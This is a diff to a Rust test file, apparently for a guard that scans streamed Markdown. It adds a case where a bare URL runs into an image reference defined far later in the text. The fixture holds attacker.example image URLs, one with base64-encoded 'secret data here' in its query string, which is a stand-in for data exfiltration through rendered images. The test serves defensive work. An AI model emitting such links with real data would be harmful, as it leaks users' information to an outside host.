@@ -276,6 +276,23 @@ fn a_reference_definition_far_from_its_use() {
         let cuts: Vec<usize> = (1..text.len()).step_by(step).collect();
         check(&guard(), &text, None, &cuts, "far use");
     }
+    // A bare URL that runs into a reference defined slices later: before the definition
+    // arrives a stream reads the reference as text, and the one-shot scan reads the text
+    // around it the same way.
+    let text = format!(
+        "See https://attacker.example/c.png?d=c2VjcmV0IGRhdGEgaGVyZQ![x][far]] now.\n\n{}[far]: https://attacker.example/f.png\n",
+        filler.repeat(200)
+    );
+    for step in [16, 333, text.len()] {
+        let cuts: Vec<usize> = (1..text.len()).step_by(step).collect();
+        check(
+            &guard(),
+            &text,
+            None,
+            &cuts,
+            "bare URL into a later reference",
+        );
+    }
     // A label defined twice: CommonMark keeps the first definition, so only it is
     // reported, even when the second comes slices later.
     let text = format!(
